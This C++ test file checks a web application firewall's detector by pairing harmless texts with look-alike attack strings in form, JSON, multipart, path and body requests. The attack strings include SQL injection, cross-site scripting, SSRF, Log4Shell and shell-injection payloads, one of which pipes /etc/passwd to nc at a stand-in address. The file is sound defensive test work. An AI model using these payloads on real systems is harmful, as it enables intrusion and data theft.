// Texts about programs and values of settings, each beside the attack that has the same words: by class, as a
// field of a form, of JSON and of a multipart body. Balanced denies the attack alone.
#include <string>
#include <string_view>
#include <vector>

#include "tests/detect/quality/engine_under_test.h"
#include "tests/support/variations/codings.h"
#include "tests/support/variations/raw_request.h"

namespace wafd::detect {
namespace {

struct SiblingClass {
  std::string_view name;
  std::vector<std::string_view> ordinary;
  std::vector<std::string_view> attacks;
};

const std::vector<SiblingClass>& sibling_classes() {
  static const std::vector<SiblingClass> kClasses{
      {"environment of Perl",
       {"The path (%ENV) is a hash in Perl.", "Set it in %ENV (see perlvar), not in the script (%ENV).",
        "$ENV{HOME}", "$ENV{PROJECT_ROOT}"},
       {"print %ENV", "join(' ',%ENV)", "print(%ENV)", "print sort (%ENV)", "1;print keys (%ENV)",
        "';print %ENV;'"}},
      {"program that ends with a message",
       {"if (err) die('x');", "if (!$fp) die('cannot open file');", "open or die(\"no file\");"},
       {"1;die('x')", "';die('x');//", "';die(md5(1));//", "die('x')", "1&&die('x')", "{die('x')}"}},
      {"line of PHP in a question",
       {"mysql_query($q) or die(mysql_error());", "$n = array_sum($prices); is slow",
        "Use mb_strlen($s) instead of strlen."},
       {"1);mysql_query(\"drop table x\");//", "mysql_query($q)", "file_put_contents('a.php','x')"}},
      {"words that are functions",
       {"system (as in operating system)", "exec (as in chief executive officer)",
        "assert(x > 0 && \"x must be positive\");", "assert(n <= max);"},
       {"system(cat /etc/passwd)", "system('id')", "assert('system(\"id\")')", "assert(system(id)==1)",
        "assert(include \"/tmp/x\" != 1)", "system(cat etc passwd)", "assert($_GET[1]==1)"}},
      {"member with a default",
       {"use getattr(obj, \"name\", None) here", "why not getattr(settings, 'DEBUG_MODE', False)?",
        "the label is getattr(self, \"label\", \"\")"},
       {"getattr(os,'popen')", "getattr(os,'popen',None)('id')", "getattr(x,'system',0)('id')",
        "getattr(x,'__class__',0)", "getattr(x,'po'+'pen',0)", "getattr(__builtins__,'exec',0)"}},
      {"Java's class loading and questions to the machine",
       {"Class.forName(\"com.mysql.jdbc.Driver\") isn't needed since JDBC 4",
        "Class.forName(\"org.postgresql.Driver\");", "Runtime.getRuntime().availableProcessors()",
        "int n = Runtime.getRuntime().availableProcessors() * 2;"},
       {"Class.forName(\"java.lang.Runtime\")", "Class.forName(\"com.x.Y\").newInstance()",
        "Class.forName(\"javax.script.ScriptEngineManager\")", "Runtime.getRuntime().exec(\"id\")",
        "Runtime.getRuntime().load(\"/tmp/x\")"}},
      {"Python's file of a package",
       {"__init__.py is missing in the package; self.__class__.__name__ prints the class",
        "moved to app/__init__.py (was: self.__class__)"},
       {"''.__class__.__mro__[1].__subclasses__()", "self.__init__.__globals__", "x.__init__.py.__class__"}},
      {"handler that is left out",
       {"Use <a href=\"...\"> not <a onclick=\"...\">", "<button onclick=\"...\">Save</button>"},
       {"<a onclick=\"alert(1)\">", "<a onclick=x>", "<a onclick=\"..;alert(1)\">"}},
      {"certificates of authorities",
       {"/etc/ssl/certs/ca-certificates.crt", "/etc/pki/tls/certs/ca-bundle.crt",
        "/etc/ssl/certs/ssl-cert-snakeoil.pem"},
       {"/etc/ssl/private/a.key", "/etc/ssl/openssl.cnf", "/etc/ssl/certs/server.key",
        "/etc/ssl/certs/../../passwd"}},
      {"addresses that settings hold",
       {"smtp://user:p%40ss@mail.example.com:587",
        "postgres://app:secret@localhost:5432/shop?sslmode=disable", "postgresql://app:secret@10.0.0.5/shop",
        "rtsp://192.168.1.20:554/Streaming/Channels/101",
        "rtsp://admin:12345@192.168.1.21:554/cam/realmonitor?channel=1&subtype=0"},
       {"smtp://user%0d%0aRCPT@mail.example.com:25", "smtp://127.0.0.1:25/", "postgres://localhost:5432/",
        "gopher://127.0.0.1:6379/_x", "rtsp://2130706433:22/", "rtsp://169.254.169.254/",
        "rtsp://localhost:554/", "mysql://root:x@127.0.0.1:6379/a", "dict://127.0.0.1:11211/stat"}},
      {"handler behind a quote",
       {"\"onclick=foo\"", "it's onclick=foo in that line", "what does \"a\" onclick=b mean?",
        "In React use 'onclick=foo' instead", "see 'onsubmit=return false' there"},
       {"x' onclick=y z='", "\" onfocus=x autofocus", "'/onmouseover=y", "x\"\tonpointerenter=y"}},
      {"columns in double quotes",
       {"SHOW TAG VALUES FROM \"cpu\" WITH KEY = \"host\" WHERE \"owner\" = 'anna'",
        "SHOW SERIES WHERE \"host\" = 'db1'"},
       {"\"a\"='b'", "\"a\"='b'-- -", "not \"a\"='b'", "1 or \"a\"='a'", "1 or \"a\"<>'b'",
        "x' or \"a\"='a'-- -", "\" or \"a\"='a"}},
      {"logic behind the quote that begins a value",
       {"'and then they left", "6' or 7' tall", "'n' roll or jazz", "\"fish and chips\"", "' or: the other",
        "' and 3 friends", "\" or something like that"},
       {"' or xyz!", "\" and 1", "') or foo", "' xor (", "') and -x"}},
  };
  return kClasses;
}

std::vector<std::string> requests_with(std::string_view text) {
  const std::string part = "--b\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n";
  return {variations::make_request(
              "/save", "application/x-www-form-urlencoded",
              "id=7&comment=" + variations::percent_encode(std::string(text), "._-~") + "&ok=1"),
          variations::make_request(
              "/api/items", "application/json",
              R"({"id":7,"note":")" + variations::json_escape(std::string(text)) + R"(","tags":["a","b"]})"),
          variations::make_request("/post", "multipart/form-data; boundary=b",
                                   part + std::string(text) + "\r\n--b--\r\n")};
}

TEST(Siblings, OrdinaryOnesPassAndAttacksAreDenied) {
  for (const SiblingClass& one : sibling_classes()) {
    for (const std::string_view text : one.ordinary) {
      for (const std::string& request : requests_with(text)) {
        engine().inspect(request);
        EXPECT_FALSE(engine().denies(Sensitivity::kBalanced))
            << one.name << ": " << engine().why() << " <- " << request;
      }
    }
    for (const std::string_view text : one.attacks) {
      for (const std::string& request : requests_with(text)) {
        engine().inspect(request);
        EXPECT_TRUE(engine().denies(Sensitivity::kBalanced)) << one.name << " <- " << request;
      }
    }
  }
}

struct BodyRow {
  const char* type;
  std::string_view body;
  bool denied;
};
constexpr std::string_view kManual =
    "# Deploying the wiki\n\nWe use `git`, `make` and a small script, which the night watch runs by hand "
    "when the "
    "other one is asleep:\n\n```sh\ngit pull --ff-only && make -j4 all\nsudo systemctl restart wiki.service\n"
    "curl -fsS http://localhost:8080/health || echo \"not healthy\" >&2\n```\n\nThe configuration lies "
    "beside it, "
    "and a copy of it in the drawer of the desk.\n";
// A file of Markdown that is put somewhere, messages of a chat, and documents made of blocks.
constexpr BodyRow kBodies[] = {
    {"text/markdown; charset=utf-8", kManual, false},
    {"text/markdown", "; cat /etc/passwd", true},
    {"text/markdown", "# Notes\n\nwhat;cat /etc/passwd|nc 192.0.2.1 80\n", true},
    {"text/plain;charset=UTF-8", R"(42["message","run `make` && then `npm test`; it's \"green\""])", false},
    {"text/plain;charset=UTF-8", R"(42["message","x;cat /etc/passwd"])", true},
    {"text/plain;charset=UTF-8", R"(42["message";cat /etc/passwd])", true},
    {"text/plain;charset=UTF-8", R"(42/a,["message",{"text":"${jndi:ldap://x/a}"}])", true},
    {"application/json",
     R"({"type":"doc","content":[{"type":"codeBlock","attrs":{"language":"bash"},"content":[{"type":"text","text":"sudo systemctl restart web; journalctl -fu web"}]}]})",
     false},
    {"application/json",
     R"j({"nbformat":4,"cells":[{"cell_type":"code","source":"import subprocess\nprint(subprocess.run(['git','log'],capture_output=True))"}]})j",
     false},
    {"application/json",
     R"({"blocks":[{"type":"code","data":{"code":"for f in *.jpg; do convert \"$f\" x; done"}}]})", false},
    {"application/json", R"({"blocks":[{"type":"code","command":"x;cat /etc/passwd"}]})", true},
    {"application/json",
     R"({"blocks":[{"type":"code","text":"1' union select user,password from users-- -"}]})", true},
    {"application/json", R"({"content":[{"type":"code","text":"x;cat /etc/passwd"}]})", true},
    {"application/x-www-form-urlencoded", R"(doc={"blocks":[{"type":"code","text":"x;cat /etc/passwd"}]})",
     true},
    {"application/x-www-form-urlencoded", "40/&user=admin'+or+1=1--+-", true},
    {"application/x-www-form-urlencoded", R"(40{"a":"&u=1+or+1=1&x="})", true},
    {"application/json", R"({"type":"code","text":"x;cat /etc/passwd"})", true},
    {"application/json", R"({"items":[{"type":"code","text":"x;cat /etc/passwd"}]})", true},
    {"application/json", R"({"blocks":[{"type":"code","data":{"code":"${jndi:ldap://x/a}"}}]})", true},
    // A short line by itself is a value without a name.
    {"text/plain", "admin'/*", true},
    {"text/plain", "' sounds like 'a", true},
    {"text/plain", "19 is not null", true},
    {"text/plain", "The door is open, 21 degrees; call Anna's mother or Tom", false},
    {"text/plain", "ON", false},
    {"text/plain", "temperature=21.5 humidity=40 # kitchen", false},
};

struct PathRow {
  const char* path;
  bool denied;
};
// Parameters that are a segment of the path; names of files and folders have blanks and words that are
// commands.
constexpr PathRow kPaths[] = {
    {"/env%20wget%20http://a.example/x.sh", true},
    {"/tail%20-n%205%20/var/log/syslog", true},
    {"/ping/powershell%20-enc%20YQBi", false},  // the program's name is not what the path begins with
    {"/powershell%20-enc%20YQBi", true},
    {"/cat${IFS}/etc/passwd", true},
    {"/cat%3C/etc/passwd", true},
    {"/cat%20photos/IMG_1.jpg", false},
    {"/cat%20photos/sub%20folder/IMG_1.jpg", false},
    {"/find%20my%20phone.docx", false},
    {"/Kill%20Bill%20(2003).mkv", false},
    {"/man%20vs%20wild/season%201/ep%202.mp4", false},
    {"/top%2010%20songs%20of%202020.mp3", false},
    {"/who%20is%20who.html", false},
    {"/cat%20photo%201.jpg", false},
    {"/dd%20form%20214.pdf", false},
    {"/ping%20pong.jpg", false},
    {"/ls%20swap.jpg", false},
    {"/sleep%208%20hours.mp3", false},
    {"/cat%20%3C3%20dog.jpg", false},
    {"/tar%20-final.pdf", false},
};

TEST(Siblings, Paths) {
  for (const PathRow& row : kPaths) {
    engine().inspect(fmt::format("GET {} HTTP/1.1\r\nHost: shop.example\r\n\r\n", row.path));
    EXPECT_EQ(engine().denies(Sensitivity::kBalanced), row.denied) << engine().why() << " <- " << row.path;
  }
}

TEST(Siblings, WholeBodies) {
  for (const BodyRow& row : kBodies) {
    const std::string request = variations::make_request("/files/notes", row.type, std::string(row.body));
    engine().inspect(request);
    EXPECT_EQ(engine().denies(Sensitivity::kBalanced), row.denied) << engine().why() << " <- " << request;
  }
}

}  // namespace
}  // namespace wafd::detect
